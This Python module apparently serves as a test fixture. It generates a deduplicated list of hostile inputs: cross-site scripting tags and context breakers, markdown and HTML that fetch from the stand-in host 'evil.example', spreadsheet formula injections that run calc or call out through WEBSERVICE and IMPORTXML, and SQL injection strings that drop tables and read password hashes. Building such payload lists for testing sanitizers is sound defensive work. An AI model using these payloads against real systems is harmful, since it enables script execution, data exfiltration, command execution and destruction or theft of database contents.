"""Two hundred and more hostile words: scripts, images, links and formulas, each of which does harm somewhere."""

OUTSIDE = "evil.example"
MARK = "window.__harmed=(window.__harmed||0)+1"

_SCRIPTS = [
    "<script>{mark}</script>",
    "<img src=x onerror={mark}>",
    "<svg onload={mark}></svg>",
    "<svg><script>{mark}</script></svg>",
    "<body onload={mark}>",
    "<details open ontoggle={mark}>x</details>",
    "<video><source onerror={mark}></video>",
    "<audio src=x onerror={mark}>",
    "<iframe srcdoc='<script>parent.{mark}</script>'></iframe>",
    "<iframe src='javascript:parent.{mark}'></iframe>",
    "<input autofocus onfocus={mark}>",
    "<select autofocus onfocus={mark}></select>",
    "<textarea autofocus onfocus={mark}></textarea>",
    "<marquee onstart={mark}>x</marquee>",
    "<object data='javascript:{mark}'></object>",
    "<embed src='javascript:{mark}'>",
    "<math><mi xlink:href='javascript:{mark}'>x</mi></math>",
    "<style onload={mark}></style>",
    "<link rel=stylesheet href=x onerror={mark}>",
    "<form action='javascript:{mark}'><button>x</button></form>",
    "<a href='javascript:{mark}'>x</a>",
    "<div style='animation-name:x' onanimationstart={mark}></div>",
    "<img src=1 href=1 onerror='{mark}'></img>",
    "<svg><animate onbegin={mark} attributeName=x dur=1s>",
]
_FRAMES = ["{0}", "\"'>{0}", "</textarea>{0}", "</title>{0}", "--><!-- -->{0}"]
_MARKDOWN = [
    "[x](javascript:{mark})",
    "![x](javascript:{mark})",
    "[x](data:text/html,<script>{mark}</script>)",
    "![x](https://{outside}/{number}.png)",
    "[click here](https://{outside}/{number})",
    "<https://{outside}/{number}>",
    "https://{outside}/{number}",
    "[x]: https://{outside}/{number}\n\n[x]",
    "![x][y]\n\n[y]: https://{outside}/{number}.png",
    "<img src='https://{outside}/{number}.png'>",
    "<img srcset='https://{outside}/{number}.png 2x'>",
    "<style>@import 'https://{outside}/{number}.css'</style>",
    "<div style=\"background:url('https://{outside}/{number}.png')\">x</div>",
    "<iframe src='https://{outside}/{number}'></iframe>",
    "<meta http-equiv=refresh content='0;url=https://{outside}/{number}'>",
    "<base href='https://{outside}/'>",
    "<link rel=stylesheet href='https://{outside}/{number}.css'>",
    "<video poster='https://{outside}/{number}.png'></video>",
    "$\\href{{https://{outside}/{number}}}{{x}}$",
    "$\\includegraphics{{https://{outside}/{number}.png}}$",
    ":material/home: ![](https://{outside}/{number}.gif)",
    "**bold** _em_ `code` ~~no~~ # head",
    "\u202egnp.exe\u202c <b>bold</b>",
]
_FORMULAS = [
    '=HYPERLINK("https://{outside}/{number}","x")',
    "=cmd|'/c calc'!A1",
    "+1+1",
    "-2+3+cmd|'/c calc'!A0",
    "@SUM(1+1)*cmd|'/c calc'!A0",
    '=WEBSERVICE("https://{outside}/{number}")',
    '=IMPORTXML("https://{outside}/{number}","//a")',
    "\t=1+1",
    "=1+1",
]
SQL = [
    "' OR 1=1 --",
    "'; DROP TABLE referral; --",
    '" OR ""="',
    "1); DELETE FROM client; --",
    "' UNION SELECT username, password_hash FROM user_account --",
    "%' OR '1'='1",
    "\\'; SELECT pg_sleep(9); --",
    "Robert'); DROP TABLE children;--",
    "' || (SELECT password_hash FROM user_account) || '",
    "0x27204F5220313D31",
    "admin'/*",
    "*/ OR 1=1 /*",
]


def every() -> list[str]:
    """All payloads, each different from the others."""
    scripts = [frame.format(one.format(mark=MARK)) for one in _SCRIPTS for frame in _FRAMES]
    marked = [
        f"{before}{one.format(mark=MARK, outside=OUTSIDE, number=number)}"
        for number, one in enumerate(_MARKDOWN)
        for before in ("", "Ana ", "> ")
    ]
    formulas = [one.format(outside=OUTSIDE, number=100 + number) for number, one in enumerate(_FORMULAS)]
    return list(dict.fromkeys([*scripts, *marked, *formulas, *SQL]))
